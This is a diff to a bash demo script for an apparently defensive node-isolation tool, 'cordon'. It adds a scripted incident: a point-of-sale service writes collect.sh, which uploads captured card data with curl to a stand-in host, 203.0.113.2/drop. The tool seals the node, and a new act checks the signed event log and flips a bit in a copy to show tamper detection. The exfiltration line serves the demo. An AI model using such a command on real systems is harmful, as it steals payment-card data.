@@ -11,7 +11,7 @@
 set -euo pipefail
 
 SLICE=${SLICE:-cordon-demo-$$.slice}
-NEEDS=(awk curl find grep ip mount nsenter openssl ping python3 sed socat sysctl timeout unshare)
+NEEDS=(awk curl dd find grep ip mount nsenter od openssl ping python3 sed socat sysctl timeout unshare)
 
 die() { echo "cordon: demo: $*" >&2; exit 1; }
 
@@ -467,16 +467,27 @@ sign_release()
 		--reason 'the cause is found' "${keys[@]}" -o "$file" >/dev/null
 }
 
+# What the card reader's program does that it should not.
+misbehave()
+{
+	cat >collect.sh <<-'END'
+	tail -n 3 sold >cards
+	curl -s --max-time 1 -T cards http://203.0.113.2/drop
+	END
+	on pos sh collect.sh >/dev/null 2>&1 || true
+}
+
 seal()
 {
 	local start done last flood
 	title "A card reader misbehaves: the node is sealed, under traffic"
+	INCIDENT=$SECONDS
 	on devices python3 flood.py 192.168.50.1 5683 >last &
 	flood=$!
 	on pos curl -sN http://198.51.100.2:443/ticks >sold &
 	on management socat -u TCP:10.20.0.1:22 STDOUT >/dev/null
 	until_ok 5 test -s sold -a -e flooding || die "the traffic does not start"
-	sleep 0.5
+	misbehave
 	read -r start done < <(python3 clock.py "$CORDON" "${OPTIONS[@]}" seal isolate --reason 'card data seen leaving')
 	text "  $BOLD\$ cordon seal isolate --reason 'card data seen leaving'$PLAIN"
 	indent <sealed
@@ -527,6 +538,52 @@ reopen()
 	tried done 'a new one' order next.p7
 }
 
+# ---- the third act: what happened ------------------------------------------------------------
+
+# happened TEXT COMMAND...: lines are as wide as what they tell
+happened()
+{
+	text "  $BOLD\$ cordon events $1$PLAIN"
+	shift
+	"$@" | indent
+	text
+}
+
+timeline() { cordon events --since "$1" --class enforcement | grep -E 'by curl|enforcement (latch|order)' | cut -c 12-130; }
+tree() { cordon events --since "$1" --tree --unit pos.service | cut -c 12-130; }
+
+# The byte in its middle.
+flip()
+{
+	local segment=$1 size byte
+	size=$(stat -c %s "$segment")
+	byte=$(od -An -tu1 -j $((size / 2)) -N 1 "$segment")
+	printf '%b' "\\x$(printf %x $((byte ^ 1)))" |
+		dd of="$segment" bs=1 seek=$((size / 2)) conv=notrunc status=none
+}
+
+look_back()
+{
+	local since=$((SECONDS - INCIDENT + 1))s found=sound last
+	title "What happened, by the log: on the node, or on another machine"
+	happened "--since $since --class enforcement" timeline "$since"
+	happened "--since $since --tree --unit pos.service" tree "$since"
+	result 'the program that collected the cards is in it' 1 \
+		"$(cordon events --since "$since" --unit pos.service | grep -c 'exec sh.*collect.sh')"
+	cordon log verify --key node.key >verified || found='not sound'
+	text "  $BOLD\$ cordon log verify --key node.key$PLAIN"
+	sed '/^$/d' verified | indent
+	result 'the log is what the node wrote' sound "$found"
+	cp -r var/lib/cordon/log edited
+	last=$(find edited -name 'enforcement.*' ! -name '*.zst' -printf '%s %p\n' | sort -n | tail -n 1)
+	last=${last#* }
+	flip "$last"
+	found=found
+	cordon log verify edited --key node.key >verified && found='not found'
+	grep BREACH verified | indent
+	result "one bit of $last flipped" found "$found"
+}
+
 take_down()
 {
 	title "Down"
@@ -565,8 +622,10 @@ tell_story()
 	change
 	fall_back
 	make_keys
+	cordon log key node.key >/dev/null
 	seal
 	reopen
+	look_back
 	take_down
 	text
 	if [ "$FAILURES" != 0 ]; then
